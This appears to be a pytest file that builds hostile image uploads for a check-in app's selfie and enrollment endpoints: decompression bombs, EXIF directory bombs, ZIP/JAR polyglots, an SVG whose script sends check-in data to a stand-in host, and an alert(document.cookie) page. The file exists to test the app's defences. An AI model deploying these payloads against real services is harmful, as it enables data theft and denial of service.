"""Hostile images: a corpus generated here (no binary fixtures), posted as a check-in selfie and
as an enrollment photo. Every item gets a clean 4xx in the one error shape within a second, with
bounded memory, nothing written to storage and no row stored; real photos are still taken.

The deferred path (GPS accepts, so the photo check is queued and the request only proves the
photo whole at 1/8 scale) must refuse exactly what the full path refuses.
"""

from __future__ import annotations

import functools
import io
import random
import struct
import time
import zipfile
import zlib
from pathlib import Path

import pytest
from PIL import Image

from checkin import create_app
from tests.conftest import assert_error, jpeg_bytes, post_checkin

SEED = 20240611


# ---------------------------------------------------------------- builders (bytes only, seeded)

def encode(image: Image.Image, fmt: str, **params) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, fmt, **params)
    return buffer.getvalue()


def photo(width: int = 640, height: int = 480, seed: int = SEED) -> Image.Image:
    """A textured RGB picture (noise upscaled: compresses like a photo, not like a flat fill)."""
    rng = random.Random(seed)
    small = Image.frombytes("RGB", (width // 8, height // 8), rng.randbytes((width // 8) * (height // 8) * 3))
    return small.resize((width, height), Image.Resampling.BICUBIC)


def png_chunk(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def png(width: int, height: int, *, bit_depth: int = 8, colour_type: int = 2, rows: bytes | None = None,
        extra_chunks: tuple[bytes, ...] = ()) -> bytes:
    """A PNG written by hand: IHDR as given (CRC always right), IDAT holding `rows`, or zero rows
    compressed as a stream (a zeros image of any size costs only its compressed bytes)."""
    channels = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[colour_type]
    header = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    if rows is None:
        row_bytes = 1 + (width * channels * bit_depth + 7) // 8
        compressor, parts = zlib.compressobj(9), []
        block = bytes(row_bytes) * max(1, min(height, (4 << 20) // max(row_bytes, 1)))
        remaining = row_bytes * height
        while remaining > 0:
            parts.append(compressor.compress(block[:remaining]))
            remaining -= len(block)
        parts.append(compressor.flush())
        idat = b"".join(parts)
    else:
        idat = zlib.compress(rows, 9)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + b"".join(extra_chunks)
            + b"".join(png_chunk(b"IDAT", idat[i:i + 65536]) for i in range(0, len(idat), 65536))
            + png_chunk(b"IEND", b""))


def with_jpeg_segment(jpeg: bytes, marker: int, payload: bytes) -> bytes:
    """The JPEG with one more segment right after SOI."""
    return jpeg[:2] + bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload + jpeg[2:]


def with_frame_header(jpeg: bytes, *, width: int | None = None, height: int | None = None,
                      marker: int | None = None, precision: int | None = None) -> bytes:
    """The JPEG with its frame header (SOF0/SOF2) changed: the size it claims, its coding
    process (the marker) or its sample precision."""
    data = bytearray(jpeg)
    at = next((data.find(sof) for sof in (b"\xff\xc0", b"\xff\xc2") if data.find(sof) >= 0), -1)
    assert at >= 0, "no SOF marker"
    if marker is not None:
        data[at + 1] = marker
    if precision is not None:
        data[at + 4] = precision
    if width is not None or height is not None:
        old_height, old_width = struct.unpack_from(">HH", data, at + 5)
        data[at + 5:at + 9] = struct.pack(">HH", old_height if height is None else height,
                                          old_width if width is None else width)
    return bytes(data)


def zip_archive(**files: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return buffer.getvalue()


JAR = {"META-INF__MANIFEST_dot_MF": b"Manifest-Version: 1.0\r\nMain-Class: Evil\r\n\r\n",
       "Evil_dot_class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(64)}


def corrupt_middle(data: bytes, length: int = 512, seed: int = SEED) -> bytes:
    rng = random.Random(seed)
    middle = len(data) // 2
    return data[:middle] + rng.randbytes(length) + data[middle + length:]


def tiff_directory_bomb(entries: int, value_size: int) -> bytes:
    """A little-endian TIFF block (EXIF, MPF) whose first directory has `entries` entries, every
    one pointing at the same `value_size` bytes: a naive parser reads them again for each."""
    value_at = 8 + 2 + entries * 12 + 4
    directory = struct.pack("<H", entries) + b"".join(
        struct.pack("<HHII", 0xC000 + i, 7, value_size, value_at) for i in range(entries)) + struct.pack("<I", 0)
    return b"II*\x00" + struct.pack("<I", 8) + directory + bytes(value_size)


def exif_with_huge_directories() -> bytes:
    """IFD0 and the Exif IFD at the format's limit of 65,535 entries each (1.5 MB): Pillow walks
    every entry, ~0.4 s and ~40 MB per parse."""
    entries = 0xFFFF
    exif_at = 8 + 2 + entries * 12 + 4
    filler = b"".join(struct.pack("<HHI4s", (0x1000 + i) % 0x10000, 3, 1, b"\x01\x00\x00\x00")
                      for i in range(entries - 1))
    ifd0 = struct.pack("<HHHII", entries, 0x8769, 4, 1, exif_at) + filler + bytes(4)
    exif = struct.pack("<HHHI4s", entries, 0x9000, 7, 4, b"0232") + filler + bytes(4)
    return b"II*\x00" + struct.pack("<I", 8) + ifd0 + exif


def jpeg_with_app_block(marker: int, header: bytes) -> bytes:
    """A full 64 KB APP block: 2,700 directory entries sharing one 30 KB value (~80 MB read by a
    parser that does not stop at the block's size, as Pillow before 13 did not)."""
    payload = header + tiff_directory_bomb(2700, 30000)
    assert len(payload) <= 65533
    return with_jpeg_segment(jpeg_bytes(320, 240, seed=SEED), marker, payload)


def heic(image: Image.Image, *more: Image.Image, **params) -> bytes:
    import pillow_heif

    pillow_heif.register_heif_opener()
    buffer = io.BytesIO()
    image.save(buffer, "HEIF", quality=params.pop("quality", 80), save_all=bool(more), append_images=list(more),
               **params)
    return buffer.getvalue()


def heic_box(data: bytes, kind: bytes) -> int:
    at = data.find(kind)
    assert at >= 4, kind
    return at - 4


def heic_claiming(width: int, height: int) -> bytes:
    data = bytearray(heic(photo(320, 240)))
    at = heic_box(bytes(data), b"ispe")
    data[at + 12:at + 20] = struct.pack(">II", width, height)
    return bytes(data)


def heic_with_bad_item_location() -> bytes:
    """The item location box pointing the image data far beyond the end of the file."""
    data = bytearray(heic(photo(320, 240)))
    mdat = heic_box(bytes(data), b"mdat")
    at = data.find(struct.pack(">I", mdat + 8), heic_box(bytes(data), b"iloc"))
    assert 0 < at < mdat, "iloc offset not found"
    data[at:at + 4] = struct.pack(">I", 0x7FFF0000)
    return bytes(data)


def heic_with_noise_in_coded_data(at_fraction: float) -> bytes:
    data = heic(photo(640, 480))
    mdat = heic_box(data, b"mdat")
    start = mdat + 8 + int((len(data) - mdat - 8) * at_fraction)
    return data[:start] + random.Random(SEED).randbytes(2048) + data[start + 2048:]


def heic_bomb() -> bytes:
    """20 MP of flat colour: ~5 KB of HEIC that decodes to ~140 MB."""
    return heic(Image.new("RGB", (5000, 4000), (120, 90, 60)), quality=10, enc_params={"preset": "ultrafast"})


def gif_bomb() -> bytes:
    """A GIF whose screen and frame both claim 65535 x 65535 pixels."""
    data = bytearray(encode(Image.new("P", (1, 1)), "GIF"))
    data[6:10] = struct.pack("<HH", 0xFFFF, 0xFFFF)
    frame = data.find(b"\x2c", 13)
    data[frame + 5:frame + 9] = struct.pack("<HH", 0xFFFF, 0xFFFF)
    return bytes(data)


def animated(fmt: str, **params) -> bytes:
    frames = [photo(160, 120, seed=SEED + i) for i in range(3)]
    if fmt == "GIF":
        frames = [frame.convert("P") for frame in frames]
    return encode(frames[0], fmt, save_all=True, append_images=frames[1:], duration=100, loop=0, **params)


def noise_without_markers(data: bytes, length: int = 512) -> bytes:
    """Random bytes in the middle of a JPEG's coded data, none of them 0xFF: no marker appears,
    so only the Huffman decoder could notice (and libjpeg conceals, it does not fail)."""
    noise = bytes(byte % 255 for byte in random.Random(SEED).randbytes(length))
    middle = len(data) // 2
    return data[:middle] + noise + data[middle + length:]


SVG = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="640" height="480">'
       b'<script>fetch("/api/v1/checkins").then(r => r.text()).then(t => new Image().src = "//x/?" + t)'
       b'</script><rect width="640" height="480" fill="tan"/></svg>\n')
SCRIPT_PAGE = b"<html><body><script>alert(document.cookie)</script></body></html>"


@functools.cache
def _jpeg() -> bytes:
    return jpeg_bytes(640, 480, seed=SEED)


@functools.cache
def _png() -> bytes:
    return encode(photo(320, 240), "PNG")


# id -> (builder, status, reason). Built lazily and once (see corpus_item), so collecting the
# tests costs nothing.
HOSTILE = {
    # nothing, or not a picture we take (415)
    "empty-file": (lambda: b"", 422, "IMAGE_EMPTY"),
    "svg-with-script": (lambda: SVG, 415, "IMAGE_FORMAT"),
    "html-named-selfie-jpg": (lambda: b"<!DOCTYPE html>" + SCRIPT_PAGE, 415, "IMAGE_FORMAT"),
    "gif-still": (lambda: encode(photo(64, 48).convert("P"), "GIF"), 415, "IMAGE_FORMAT"),
    "gif-animated": (lambda: animated("GIF"), 415, "IMAGE_FORMAT"),
    "webp-still": (lambda: encode(photo(64, 48), "WEBP"), 415, "IMAGE_FORMAT"),
    "webp-animated": (lambda: animated("WEBP", quality=50), 415, "IMAGE_FORMAT"),
    "tiff": (lambda: encode(photo(64, 48), "TIFF"), 415, "IMAGE_FORMAT"),
    "gif-bomb-65535x65535": (gif_bomb, 415, "IMAGE_FORMAT"),
    "gif-jar-polyglot": (lambda: encode(photo(64, 48).convert("P"), "GIF") + zip_archive(**JAR), 415, "IMAGE_FORMAT"),
    "jpeg-lossless-process": (lambda: with_frame_header(_jpeg(), marker=0xC3), 415, "IMAGE_FORMAT"),
    "jpeg-arithmetic-coded": (lambda: with_frame_header(_jpeg(), marker=0xC9), 415, "IMAGE_FORMAT"),
    # decompression bombs and headers that lie about the size (413, or 422 when the body is short)
    "png-bomb-30000x30000-zeros": (lambda: png(30000, 30000, bit_depth=1, colour_type=0), 413,
                                   "IMAGE_TOO_MANY_PIXELS"),
    "png-bomb-7000x7000-rgb-zeros": (lambda: png(7000, 7000), 413, "IMAGE_TOO_MANY_PIXELS"),
    "png-claims-100000x100000": (lambda: png(100000, 100000, rows=bytes(64)), 413, "IMAGE_TOO_MANY_PIXELS"),
    "jpeg-claims-65000x65000": (lambda: with_frame_header(_jpeg(), width=65000, height=65000), 413,
                                "IMAGE_TOO_MANY_PIXELS"),
    "heic-claims-60000x60000": (lambda: heic_claiming(60000, 60000), 413, "IMAGE_TOO_MANY_PIXELS"),
    "heic-bomb-5000x4000-flat": (heic_bomb, 413, "IMAGE_TOO_MANY_PIXELS"),
    "jpeg-claims-7000x7000-small-body": (lambda: with_frame_header(jpeg_bytes(320, 240, seed=SEED), width=7000,
                                                                   height=7000), 422, "IMAGE_CORRUPT"),
    "png-claims-4000x3000-small-body": (lambda: png(4000, 3000, rows=bytes(64)), 422, "IMAGE_CORRUPT"),
    # truncated, corrupt, random (422)
    "jpeg-truncated-half": (lambda: _jpeg()[:len(_jpeg()) // 2], 422, "IMAGE_CORRUPT"),
    "jpeg-header-only": (lambda: _jpeg()[:700], 422, "IMAGE_CORRUPT"),
    "jpeg-without-end-marker": (lambda: _jpeg()[:-2], 422, "IMAGE_CORRUPT"),
    "png-truncated-half": (lambda: _png()[:len(_png()) // 2], 422, "IMAGE_CORRUPT"),
    "jpeg-random-bytes-in-middle": (lambda: corrupt_middle(_jpeg()), 422, "IMAGE_CORRUPT"),
    "png-random-bytes-in-middle": (lambda: corrupt_middle(_png()), 422, "IMAGE_CORRUPT"),
    "jpeg-magic-then-random": (lambda: b"\xff\xd8\xff" + random.Random(SEED).randbytes(64 * 1024), 422,
                               "IMAGE_CORRUPT"),
    "png-magic-then-random": (lambda: b"\x89PNG\r\n\x1a\n" + random.Random(SEED).randbytes(64 * 1024), 422,
                              "IMAGE_CORRUPT"),
    "png-zero-width": (lambda: png(0, 240, rows=bytes(240)), 422, "IMAGE_CORRUPT"),
    "png-zero-height": (lambda: png(320, 0, rows=b""), 422, "IMAGE_CORRUPT"),
    "jpeg-zero-width": (lambda: with_frame_header(_jpeg(), width=0), 422, "IMAGE_CORRUPT"),
    "heic-truncated-in-header": (lambda: heic(photo(320, 240))[:1500], 422, "IMAGE_CORRUPT"),
    "heic-truncated-in-data": (lambda: heic(photo(320, 240))[:-100], 422, "IMAGE_CORRUPT"),
    "heic-bad-item-location": (heic_with_bad_item_location, 422, "IMAGE_CORRUPT"),
    "heic-random-nal-header": (lambda: heic_with_noise_in_coded_data(0.0), 422, "IMAGE_CORRUPT"),
    "heic-magic-then-random": (lambda: heic(photo(64, 48))[:32] + random.Random(SEED).randbytes(8192), 422,
                               "IMAGE_CORRUPT"),
    # polyglots: a picture that is also something else (422)
    "jpeg-with-zip-appended": (lambda: _jpeg() + zip_archive(**{"index.html": SCRIPT_PAGE}), 422, "IMAGE_POLYGLOT"),
    "jpeg-with-jar-appended": (lambda: _jpeg() + zip_archive(**JAR), 422, "IMAGE_POLYGLOT"),
    "jpeg-with-html-appended": (lambda: _jpeg() + b"\n" + SCRIPT_PAGE, 422, "IMAGE_POLYGLOT"),
    "jpeg-comment-with-script": (lambda: with_jpeg_segment(_jpeg(), 0xFE, SCRIPT_PAGE), 422, "IMAGE_POLYGLOT"),
    "png-text-chunk-with-script": (lambda: png(64, 48, rows=bytes(48 * (1 + 64 * 3)), extra_chunks=(
        png_chunk(b"tEXt", b"Comment\x00" + SCRIPT_PAGE),)), 422, "IMAGE_POLYGLOT"),
    "png-with-jar-appended": (lambda: _png() + zip_archive(**JAR), 422, "IMAGE_POLYGLOT"),
    "heic-with-zip-appended": (lambda: heic(photo(320, 240)) + zip_archive(**JAR), 422, "IMAGE_POLYGLOT"),
    # metadata built to make a parser read the same bytes thousands of times (422)
    "jpeg-exif-64kb-2700-entries": (lambda: jpeg_with_app_block(0xE1, b"Exif\x00\x00"), 422, "IMAGE_METADATA"),
    "jpeg-mpf-64kb-2700-entries": (lambda: jpeg_with_app_block(0xE2, b"MPF\x00"), 422, "IMAGE_METADATA"),
    "png-exif-two-directories-of-65535-entries": (lambda: png(64, 48, rows=bytes(48 * (1 + 64 * 3)), extra_chunks=(
        png_chunk(b"eXIf", exif_with_huge_directories()),)), 422, "IMAGE_METADATA"),
    "heic-exif-2700-entries": (lambda: heic(photo(320, 240), exif=b"Exif\x00\x00" + tiff_directory_bomb(2700, 30000)),
                               422, "IMAGE_METADATA"),
    # a taken format, but not a camera's still picture (422)
    "jpeg-cmyk": (lambda: encode(photo(320, 240).convert("CMYK"), "JPEG", quality=85), 422, "IMAGE_COLOR_MODE"),
    "jpeg-12-bit": (lambda: with_frame_header(_jpeg(), precision=12), 422, "IMAGE_BIT_DEPTH"),
    "png-16-bit-grey": (lambda: png(320, 240, bit_depth=16, colour_type=0), 422, "IMAGE_BIT_DEPTH"),
    "png-16-bit-rgb": (lambda: png(320, 240, bit_depth=16, colour_type=2), 422, "IMAGE_BIT_DEPTH"),
    "png-animated-apng": (lambda: animated("PNG"), 422, "IMAGE_ANIMATED"),
    "heic-two-images": (lambda: heic(photo(320, 240), photo(320, 240, seed=SEED + 1)), 422, "IMAGE_ANIMATED"),
    "heic-with-sequence-track": (lambda: heic(photo(320, 240)) + struct.pack(">I", 16) + b"moov" + bytes(8), 422,
                                 "IMAGE_ANIMATED"),
}


def camera_jpeg(image: Image.Image, **params) -> bytes:
    """A JPEG as a phone writes it: EXIF (orientation, time taken), XMP and an ICC profile."""
    from PIL import ImageCms

    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "Phone"
    exif.get_ifd(0x8769)[0x9003] = "2024:06:11 08:01:02"
    xmp = (b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
           b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></x:xmpmeta><?xpacket end="w"?>')
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    return encode(image, "JPEG", quality=88, exif=exif, xmp=xmp, icc_profile=icc, **params)


def mpo(image: Image.Image) -> bytes:
    return encode(image, "MPO", save_all=True, append_images=[image.resize((160, 120))])


# Real photos in the shapes phones send them: each must still be taken (and not by luck: every
# one goes through the new checks).
ACCEPTED = {
    "jpeg": lambda: _jpeg(),
    "jpeg-camera-exif-xmp-icc": lambda: camera_jpeg(photo(640, 480)),
    "jpeg-progressive": lambda: encode(photo(640, 480), "JPEG", quality=85, progressive=True),
    "jpeg-grey": lambda: encode(photo(640, 480).convert("L"), "JPEG", quality=85),
    "jpeg-mpo-with-preview-image": lambda: mpo(photo(640, 480)),
    "jpeg-motion-photo-video-trailer": lambda: _jpeg() + struct.pack(">I", 24) + b"ftypmp42" + bytes(12),
    "png-rgb": lambda: _png(),
    "png-rgba-blank": lambda: encode(Image.new("RGBA", (320, 240)), "PNG"),
    "png-palette": lambda: encode(photo(320, 240).convert("P"), "PNG"),
    "heic": lambda: heic(photo(320, 240)),
    "heic-with-exif": lambda: heic(photo(320, 240), exif=Image.Exif().tobytes()),
}

# Damage inside the compressed picture data that the codec conceals (libjpeg and libde265 paint
# over it and report no error): the file is whole and decodes, so it is answered like any photo.
CONCEALED_DAMAGE = {
    "jpeg-noise-without-marker-bytes": lambda: noise_without_markers(_jpeg()),
    "heic-noise-in-coded-data": lambda: heic_with_noise_in_coded_data(0.5),
}


@functools.cache
def corpus_item(name: str) -> bytes:
    builder = HOSTILE[name][0] if name in HOSTILE else ACCEPTED.get(name) or CONCEALED_DAMAGE[name]
    return builder()


# ---------------------------------------------------------------- measuring

def peak_rss_reset() -> bool:
    """Reset the kernel's peak resident size of this process (VmHWM); False where not allowed.

    Memory freed earlier but still held by the allocator would hide the next allocation, so it
    is handed back to the kernel first."""
    import ctypes
    import gc

    gc.collect()
    try:
        ctypes.CDLL("libc.so.6").malloc_trim(0)
    except (OSError, AttributeError):  # not glibc
        pass
    try:
        Path("/proc/self/clear_refs").write_text("5")
        return True
    except OSError:
        return False


def peak_rss_mb() -> float:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024
    raise AssertionError("no VmHWM")


class Measured:
    """Elapsed seconds and peak memory growth (MB) of what runs inside the block."""

    def __enter__(self):
        import resource

        self._exact = peak_rss_reset()
        self._base = peak_rss_mb() if self._exact else resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
        self._started = time.perf_counter()
        return self

    def __exit__(self, *exc):
        import resource

        self.seconds = time.perf_counter() - self._started
        peak = peak_rss_mb() if self._exact else resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
        self.grown_mb = peak - self._base
        return False


MAX_SECONDS = 1.0
MAX_GROWTH_MB = 100


def storage_files(app) -> set[Path]:
    return {path for path in Path(app.config["STORAGE_DIR"]).rglob("*") if path.is_file()}


# ---------------------------------------------------------------- the three ways a photo comes in

@pytest.fixture(scope="module")
def deferred_app(app):
    """The app as deployed with a worker: a check-in GPS accepts only has its photo proven whole
    (decode_image(preview=False), a JPEG at 1/8 scale) and its photo check queued."""
    keys = ("TESTING", "DATABASE_URL", "SECRET_KEY", "PASSWORD_HASH_METHOD", "STORAGE_DIR")
    return create_app({**{key: app.config[key] for key in keys}, "CELERY_BROKER_URL": "redis://127.0.0.1:1/0"})


@pytest.fixture
def queued(monkeypatch) -> list[int]:
    """Check-ins sent to the (absent) workers, recorded instead of sent."""
    from checkin.checkins import tasks

    sent: list[int] = []
    monkeypatch.setattr(tasks, "enqueue_verification", lambda checkin_id: sent.append(checkin_id) or True)
    return sent


def way_in(route: str, app, deferred_app, make):
    """(post(data) -> response, the form field, list() -> what the API lists afterwards)."""
    client = app.test_client()
    if route in ("checkin", "checkin-deferred"):
        employee = make.staff()  # inside the geofence: GPS accepts, so the deferred app defers
        used = client if route == "checkin" else deferred_app.test_client()

        def post(data):
            return post_checkin(used, employee, selfie=(io.BytesIO(data), "selfie.jpg", "image/jpeg"))
        return post, "selfie", lambda: client.get("/api/v1/checkins", headers=employee["headers"]).get_json()

    admin, employee_id = make.user("admin"), make.staff()["employee_id"]

    def post(data):
        return client.post(f"/api/v1/employees/{employee_id}/faces", headers=admin["headers"],
                           data={"photo": (io.BytesIO(data), "face.jpg"), "consent": "true"},
                           content_type="multipart/form-data")
    return post, "photo", lambda: client.get(f"/api/v1/employees/{employee_id}/faces",
                                             headers=admin["headers"]).get_json()


ROUTES = ["checkin", "checkin-deferred", "enrollment"]


@pytest.mark.parametrize("route", ROUTES)
@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_upload_gets_a_clean_4xx_fast_with_bounded_memory_and_nothing_stored(
        app, deferred_app, make, queued, name, route):
    data = corpus_item(name)
    _, status, reason = HOSTILE[name]
    post, field, listing = way_in(route, app, deferred_app, make)
    stored_before = storage_files(app)
    with Measured() as cost:
        response = post(data)
    body = assert_error(response, status, reason)
    assert field in body["errors"], body
    assert cost.seconds < MAX_SECONDS, f"{name}: {cost.seconds:.2f} s"
    assert cost.grown_mb < MAX_GROWTH_MB, f"{name}: peak memory grew {cost.grown_mb:.0f} MB"
    assert storage_files(app) == stored_before
    assert listing() == [] and queued == []


@pytest.mark.parametrize("route", ["checkin", "checkin-deferred"])
@pytest.mark.parametrize("name", list(ACCEPTED))
def test_real_photos_are_still_taken_as_selfies(app, deferred_app, make, queued, name, route):
    post, _, listing = way_in(route, app, deferred_app, make)
    with Measured() as cost:
        response = post(corpus_item(name))
    assert response.status_code == 201, response.get_json()
    assert cost.seconds < MAX_SECONDS
    body = response.get_json()
    assert [item["id"] for item in listing()] == [body["id"]]
    # the deferred app really took the preview=False path: the photo check was queued
    assert (body["verification"] == "queued") == (route == "checkin-deferred")
    assert queued == ([body["id"]] if route == "checkin-deferred" else [])


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "HEIF"])
def test_a_face_photo_is_still_enrolled_from_jpeg_png_and_heic(app, deferred_app, make, fmt):
    from tests.conftest import face_photo

    face = Image.open(io.BytesIO(face_photo("obama/obama_2.jpg"))).convert("RGB")
    post, _, listing = way_in("enrollment", app, deferred_app, make)
    response = post(heic(face) if fmt == "HEIF" else encode(face, fmt))
    assert response.status_code == 201, response.get_json()
    assert [item["id"] for item in listing()] == [response.get_json()["id"]]


@pytest.mark.parametrize("name", list(CONCEALED_DAMAGE))
def test_damage_the_codec_conceals_is_answered_never_a_500(app, deferred_app, make, name):
    post, _, _ = way_in("checkin", app, deferred_app, make)
    with Measured() as cost:
        response = post(corpus_item(name))
    assert response.status_code == 201, response.get_json()
    assert cost.seconds < MAX_SECONDS


def test_a_queued_selfie_todays_rules_refuse_is_flagged_for_a_person_not_retried_forever(
        app, deferred_app, make, queued, monkeypatch):
    """A selfie queued before a stricter rule (or damaged on disk since) reaches the worker's
    full decode and is refused there: the check-in is flagged PHOTO_UNREADABLE and leaves the queue."""
    post, _, listing = way_in("checkin-deferred", app, deferred_app, make)
    before = storage_files(app)
    body = post(encode(photo(seed=7), "JPEG", quality=85)).get_json()  # bytes no other test stores
    assert body["verification"] == "queued"
    (stored,) = storage_files(app) - before
    stored.write_bytes(corpus_item("jpeg-cmyk"))  # what the worker now finds

    monkeypatch.undo()  # the real enqueue_verification again
    result = app.test_cli_runner().invoke(args=["requeue-verifications", "--older-than", "0"])  # no broker: checked here and now
    assert result.exit_code == 0, result.output
    (after,) = listing()
    assert (after["status"], after["verification"]) == ("flagged", "done")
    assert after["reasons"][-1] == "PHOTO_UNREADABLE"
    admin = make.user("admin")
    trail = app.test_client().get(f"/api/v1/checkins/{body['id']}/audit", headers=admin["headers"]).get_json()
    assert trail[-1]["action"] == "checkin.verified"
    assert trail[-1]["after"]["image_error"] == "IMAGE_COLOR_MODE"
    # nothing is left for the next sweep
    assert app.test_cli_runner().invoke(args=["requeue-verifications", "--older-than", "0"]).output.strip() == "Re-queued 0 photo checks."
